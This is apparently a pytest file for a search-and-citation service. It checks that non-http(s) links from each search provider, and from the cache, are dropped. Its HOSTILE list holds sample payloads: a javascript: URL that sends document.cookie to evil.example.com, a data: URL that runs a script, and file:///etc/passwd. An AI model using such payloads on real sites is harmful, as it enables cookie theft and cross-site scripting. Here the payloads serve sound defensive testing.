"""Only http(s) results enter Footnote: a ``javascript:``, ``file:``, ``data:`` or
``ftp:`` link, a relative path or garbage from any provider never becomes a
source, a citation or an exported link."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from services.cache import SEARCH, Cache, make_key
from services.citations.registry import CitationRegistry
from tests.search.conftest import FakeDDGS
from tests.servers.search_api import FakeSearchApi, Hit

KEYED = ["tavily", "brave", "exa", "jina", "serper", "google"]

HOSTILE = [
    "javascript:alert(document.cookie)",
    "JavaScript:fetch('//evil.example.com/?'+document.cookie)",
    "file:///etc/passwd",
    "file://fileserver/share/secret.docx",
    "data:text/html,<script>alert(1)</script>",
    "ftp://files.example.org/pub/a.txt",
    "mailto:someone@example.org",
    "/relative/path?q=1",
    "page.html",
    "//cdn.example.org/no-scheme",
    "not a url at all",
    "https://",
    "http:///",
    "",
]
GOOD = ["https://good.example.org/one", "http://plain.example.org/two"]


def hostile_urls() -> list[str]:
    # The second good one within the first ten: Google answers at most ten.
    return [GOOD[0], *HOSTILE[:7], GOOD[1], *HOSTILE[7:]]


def hostile_hits() -> list[Hit]:
    urls = hostile_urls()
    return [Hit(f"Result {n}", url, f"Snippet {n}.") for n, url in enumerate(urls)]


def check(result: Any, registry: CitationRegistry) -> None:
    assert [i.url for i in result.items] == GOOD
    assert sorted(s.url for s in registry.sources()) == sorted(GOOD)
    for bad in ("javascript:", "JavaScript:", "file:", "data:", "ftp:", "mailto:", "/relative",
                "page.html", "no-scheme", "not a url"):
        assert bad not in result.text
    assert result.meta["count"] == 2


@pytest.mark.parametrize("name", [*KEYED, "searxng"])
def test_http_providers_drop_results_that_are_not_web_addresses(
    name: str, make_service: Any, provider_server: Any, api: FakeSearchApi
) -> None:
    host = provider_server(name)
    api.default = hostile_hits()
    service = make_service(
        keys={f"search.{name}": ["k"]}, search__provider=name, search__max_results=20,
        **{f"search__{name}__api_host": host, "search__google__cx": "engine-1"},
    )
    registry = CitationRegistry()
    result = service.search("anything", registry=registry, max_results=20)
    check(result, registry)


def test_duckduckgo_drops_results_that_are_not_web_addresses(
    make_service: Any, ddgs: FakeDDGS
) -> None:
    ddgs.results = {"anything": [
        {"title": h.title, "href": h.url, "body": h.snippet} for h in hostile_hits()]}
    registry = CitationRegistry()
    result = make_service(search__provider="duckduckgo").search(
        "anything", registry=registry, max_results=20)
    check(result, registry)


def test_blanks_around_a_web_address_are_trimmed(
    make_service: Any, provider_server: Any, api: FakeSearchApi
) -> None:
    host = provider_server("searxng")
    api.default = [Hit("Spaced", "  https://spaced.example.org/a \n", "s")]
    result = make_service(search__provider="searxng", search__searxng__api_host=host).search("q")
    assert [i.url for i in result.items] == ["https://spaced.example.org/a"]


def test_cached_results_pass_the_same_gate(
    tmp_path: Path, make_service: Any, provider_server: Any, api: FakeSearchApi
) -> None:
    # A cache written before the gate existed (or by hand) still holds bad URLs.
    cache = Cache(tmp_path / "cache.sqlite3")
    host = provider_server("searxng")
    service = make_service(cache=cache, search__provider="searxng",
                           search__searxng__api_host=host, cache__enabled=True,
                           search__max_results=20)
    provider = service.provider("searxng")
    stored = [{"title": f"R{n}", "url": url, "snippet": "s", "provider": "searxng"}
              for n, url in enumerate(hostile_urls())]
    cache.put(SEARCH, make_key("searxng", "cached q", 20, provider.cache_params()),
              json.dumps(stored), 600)
    registry = CitationRegistry()
    result = service.search("cached q", registry=registry, max_results=20)
    assert api.calls == []  # answered from the cache
    assert result.meta["per_query"][0]["cached"] is True
    check(result, registry)
